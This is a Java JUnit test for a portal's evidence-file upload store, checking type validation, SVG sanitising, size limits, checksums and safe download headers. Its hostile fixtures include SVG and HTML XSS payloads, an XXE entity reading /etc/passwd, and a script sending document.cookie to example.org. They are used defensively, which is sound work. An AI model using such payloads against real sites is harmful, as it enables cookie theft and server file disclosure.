package org.culturetargets.portal.evidence;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Locale;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import org.culturetargets.portal.support.PortalTest;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.startsWith;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The evidence store against the real database: what is accepted is stored with its checksum and read back, what is
 * hostile is refused with its message and leaves no row, the size limit stops the reading, and the download is an
 * attachment the browser may neither sniff nor run.
 */
@PortalTest
class EvidenceFilesTest {

	static final int LIMIT = 20 * 1024 * 1024;

	@Autowired
	EvidenceFiles evidence;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	MessageSource messages;

	@Autowired
	MockMvc mvc;

	@ParameterizedTest
	@CsvSource({ "plan.pdf, application/pdf", "photo.png, image/png", "photo.JPG, image/jpeg", "site.jpeg, image/jpeg",
			"chart.gif, image/gif", "photo.webp, image/webp", "map.svg, image/svg+xml",
			"report.docx, application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			"figures.xlsx, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
			"slides.pptx, application/vnd.openxmlformats-officedocument.presentationml.presentation",
			"report.doc, application/msword", "figures.xls, application/vnd.ms-excel",
			"slides.ppt, application/vnd.ms-powerpoint" })
	void eachAllowedKindIsStoredAndReadBackWithItsChecksum(String name, String mediaType) throws IOException {
		byte[] content = sample(name);
		EvidenceFile stored = evidence.store("C:\\fakepath\\" + name, new ByteArrayInputStream(content), "district");

		assertThat(stored.name()).isEqualTo(name);
		assertThat(stored.mediaType()).isEqualTo(mediaType);
		assertThat(stored.size()).isEqualTo(content.length);
		assertThat(stored.sha256()).isEqualTo(sha256(content));
		assertThat(jdbc.queryForObject("select sha256 from evidence.file where id = ?", String.class, stored.id()))
			.isEqualTo(sha256(content));
		EvidenceContent opened = evidence.open(stored.id());
		assertThat(opened.file()).isEqualTo(stored);
		assertThat(opened.content().readAllBytes()).isEqualTo(content);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = {
			"page.pdf | evidence.refused.mismatch | 内容与文件名不符：其内容是 text/html",
			"setup.png | evidence.refused.mismatch | 内容与文件名不符：其内容是 application/x-",
			"photo.png | evidence.refused.mismatch | 其内容是 image/jpeg",
			"page.html | evidence.refused.type | 类型（text/html）不能作为佐证材料",
			"tool.js | evidence.refused.type | 不能作为佐证材料",
			"setup.exe | evidence.refused.type | 不能作为佐证材料",
			"archive.zip | evidence.refused.type | 类型（application/zip）不能作为佐证材料",
			"archive.docx | evidence.refused.mismatch | 内容与文件名不符",
			"readme | evidence.refused.mismatch | 内容与文件名不符",
			"script.svg | evidence.refused.svgUnsafe | 含有脚本或外部引用（<script>）",
			"onload.svg | evidence.refused.svgUnsafe | （onload）",
			"link.svg | evidence.refused.svgUnsafe | （javascript:）",
			"foreign.svg | evidence.refused.svgUnsafe | （<foreignObject>）",
			"external.svg | evidence.refused.svgUnsafe | （href=\"https://example.org/x.svg#a\"）",
			"css.svg | evidence.refused.svgUnsafe | （url(https://example.org/a.png)）",
			"animate.svg | evidence.refused.svgUnsafe | attributeName=\"onclick\"",
			"entity.svg | evidence.refused.svgUnsafe | （<!DOCTYPE>）",
			"broken.svg | evidence.refused.svgUnreadable | 无法读取",
			"empty.pdf | evidence.refused.empty | 文件“empty.pdf”是空的" })
	void eachHostileFileIsRefusedNamingItAndNothingIsStored(String name, String key, String text) throws IOException {
		long before = rows();

		EvidenceRefused refused = catchThrowableOfType(EvidenceRefused.class,
				() -> evidence.store(name, new ByteArrayInputStream(hostile(name)), "district"));

		assertThat(refused.messageKey()).isEqualTo(key);
		String message = messages.getMessage(refused.messageKey(), refused.arguments(), Locale.SIMPLIFIED_CHINESE);
		assertThat(message).contains(name).contains(text);
		assertThat(messages.getMessage(refused.messageKey(), refused.arguments(), Locale.ENGLISH)).contains(name)
			.doesNotContainPattern("\\p{IsHan}");
		assertThat(rows()).isEqualTo(before);
	}

	@Test
	void aNameThatCannotBeOfferedAgainIsRefused() {
		assertThat(catchThrowableOfType(EvidenceRefused.class,
				() -> evidence.store("  ", new ByteArrayInputStream(sample("a.pdf")), "district")).messageKey())
			.isEqualTo("evidence.refused.name");
		assertThat(catchThrowableOfType(EvidenceRefused.class,
				() -> evidence.store("a\u0000.pdf", new ByteArrayInputStream(sample("a.pdf")), "district")).messageKey())
			.isEqualTo("evidence.refused.name");
	}

	@Test
	void theSizeLimitStopsTheReadingAndStoresNothing() {
		long before = rows();
		Endless endless = new Endless(sample("big.pdf"));

		EvidenceRefused refused = catchThrowableOfType(EvidenceRefused.class,
				() -> evidence.store("big.pdf", endless, "district"));

		assertThat(refused.messageKey()).isEqualTo("evidence.refused.tooLarge");
		assertThat(messages.getMessage(refused.messageKey(), refused.arguments(), Locale.SIMPLIFIED_CHINESE))
			.isEqualTo("文件“big.pdf”超过了 20 MB 的上限。");
		// the limit and one byte, not the gigabyte on offer
		assertThat(endless.served).isEqualTo(LIMIT + 1L);
		assertThat(rows()).isEqualTo(before);
		byte[] exactly = Arrays.copyOf(sample("full.pdf"), LIMIT);
		assertThat(evidence.store("full.pdf", new ByteArrayInputStream(exactly), "district").size()).isEqualTo(LIMIT);
	}

	@Test
	void theDownloadIsAnAttachmentUnderItsNameThatNoBrowserRunsOrSniffs() throws Exception {
		byte[] content = sample("a.svg");
		long id = evidence.store("佐证 材料 2026.svg", new ByteArrayInputStream(content), "district").id();

		mvc.perform(get("/evidence/{id}", id).with(httpBasic("official", "demo")))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Type", "image/svg+xml"))
			.andExpect(header().string("Content-Disposition", startsWith("attachment;")))
			.andExpect(header().string("Content-Disposition",
					containsString("filename*=UTF-8''%E4%BD%90%E8%AF%81%20%E6%9D%90%E6%96%99%202026.svg")))
			.andExpect(header().string("X-Content-Type-Options", "nosniff"))
			.andExpect(header().string("Content-Security-Policy", "sandbox"))
			.andExpect(content().bytes(content));

		MvcResult anonymous = mvc.perform(get("/evidence/{id}", id)).andReturn();
		assertThat(anonymous.getResponse().getStatus()).isIn(302, 401);
		assertThat(anonymous.getResponse().getContentAsByteArray()).isNotEqualTo(content);
	}

	@Test
	void anUnknownFileIsAPageInTheReadersLanguage() throws Exception {
		mvc.perform(get("/evidence/{id}", 987654321L).with(httpBasic("official", "demo")).locale(Locale.SIMPLIFIED_CHINESE))
			.andExpect(status().isNotFound())
			.andExpect(content().string(containsString("没有编号为 987654321 的佐证文件。")));
		mvc.perform(get("/evidence/{id}", 987654321L).param("lang", "en").with(httpBasic("official", "demo")))
			.andExpect(status().isNotFound())
			.andExpect(content().string(containsString("There is no evidence file 987654321.")));
	}

	@Test
	void aFileThatNoLongerMatchesItsChecksumIsNotServed() throws Exception {
		byte[] content = sample("a.pdf");
		long id = evidence.store("damaged.pdf", new ByteArrayInputStream(content), "district").id();
		jdbc.update("update evidence.file set content = overlay(content placing '\\x58'::bytea from 3) where id = ?", id);

		mvc.perform(get("/evidence/{id}", id).with(httpBasic("official", "demo")).locale(Locale.SIMPLIFIED_CHINESE))
			.andExpect(status().isInternalServerError())
			.andExpect(header().doesNotExist("Content-Disposition"))
			.andExpect(content().contentTypeCompatibleWith("text/html"))
			.andExpect(content().string(containsString("文件“damaged.pdf”的内容与保存时的校验值不符，不予下载。")));
	}

	private long rows() {
		return jdbc.queryForObject("select count(*) from evidence.file", Long.class);
	}

	/** A small file of the kind its name says, built the way its format starts. */
	static byte[] sample(String name) {
		String extension = name.substring(name.lastIndexOf('.') + 1).toLowerCase(Locale.ROOT);
		return switch (extension) {
			case "pdf" -> ascii("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
			case "png" -> join(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13 },
					ascii("IHDR"), new byte[17]);
			case "jpg", "jpeg" -> join(new byte[] { (byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0, 0, 16 },
					ascii("JFIF"), new byte[40]);
			case "gif" -> join(ascii("GIF89a"), new byte[] { 1, 0, 1, 0, 0, 0, 0, 0x3b });
			case "webp" -> join(ascii("RIFF"), new byte[] { 26, 0, 0, 0 }, ascii("WEBPVP8 "), new byte[18]);
			case "svg" -> ascii("""
					<?xml version="1.0" encoding="UTF-8"?>
					<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
					  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
					  <rect width="10" height="10" fill="url(#g)" style="stroke: url(#g)"/><use xlink:href="#g"/>
					</svg>
					""");
			case "docx" -> office("word/document.xml");
			case "xlsx" -> office("xl/workbook.xml");
			case "pptx" -> office("ppt/presentation.xml");
			case "doc", "xls", "ppt" -> join(new byte[] { (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1,
					(byte) 0xb1, 0x1a, (byte) 0xe1 }, new byte[1024]);
			default -> throw new IllegalArgumentException(name);
		};
	}

	static byte[] hostile(String name) throws IOException {
		String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">%s</svg>";
		return switch (name) {
			case "page.pdf", "page.html" -> ascii("<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>");
			case "setup.png", "setup.exe" -> join(ascii("MZ"), new byte[58], new byte[] { (byte) 0x80, 0, 0, 0 },
					new byte[64], ascii("PE"), new byte[0x200]);
			case "photo.png" -> sample("photo.jpg");
			case "tool.js" -> ascii("document.location='https://example.org/?c='+document.cookie;\n");
			case "archive.zip", "archive.docx" -> zip("notes.txt", "plain text");
			case "readme" -> sample("a.pdf");
			case "script.svg" -> ascii(svg.formatted("<script>alert(1)</script>"));
			case "onload.svg" -> ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
			case "link.svg" -> ascii(svg.formatted("<a xlink:href=\" java\tscript:alert(1)\"><rect/></a>"));
			case "foreign.svg" -> ascii(svg.formatted("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>"));
			case "external.svg" -> ascii(svg.formatted("<use href=\"https://example.org/x.svg#a\"/>"));
			case "css.svg" -> ascii(svg.formatted("<style>rect { fill: url(https://example.org/a.png) }</style>"));
			case "animate.svg" -> ascii(svg.formatted("<rect><set attributeName=\"onclick\" to=\"alert(1)\"/></rect>"));
			case "entity.svg" -> ascii("""
					<?xml version="1.0"?>
					<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
					<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>
					""");
			case "broken.svg" -> ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect></svg>");
			case "empty.pdf" -> new byte[0];
			default -> throw new IllegalArgumentException(name);
		};
	}

	private static byte[] office(String mainPart) {
		try {
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
				zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
				zip.write(ascii("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"));
				zip.putNextEntry(new ZipEntry(mainPart));
				zip.write(ascii("<?xml version=\"1.0\"?><x/>"));
			}
			return bytes.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	private static byte[] zip(String entry, String text) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.putNextEntry(new ZipEntry(entry));
			zip.write(ascii(text));
		}
		return bytes.toByteArray();
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] join(byte[]... parts) {
		ByteArrayOutputStream joined = new ByteArrayOutputStream();
		Arrays.stream(parts).forEach(joined::writeBytes);
		return joined.toByteArray();
	}

	private static String sha256(byte[] content) {
		try {
			return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
		}
		catch (Exception e) {
			throw new IllegalStateException(e);
		}
	}

	/** A PDF that never ends (a gigabyte on offer), counting the bytes it has served. */
	static final class Endless extends InputStream {

		private final byte[] start;

		long served;

		Endless(byte[] start) {
			this.start = start;
		}

		@Override
		public int read() {
			if (served >= 1L << 30) {
				return -1;
			}
			int next = served < start.length ? start[(int) served] & 0xff : ' ';
			served++;
			return next;
		}

		@Override
		public int read(byte[] buffer, int offset, int length) {
			if (served >= 1L << 30) {
				return -1;
			}
			int n = Math.min(length, 64 * 1024);
			for (int i = 0; i < n; i++) {
				buffer[offset + i] = (byte) read();
			}
			return n;
		}

	}

}
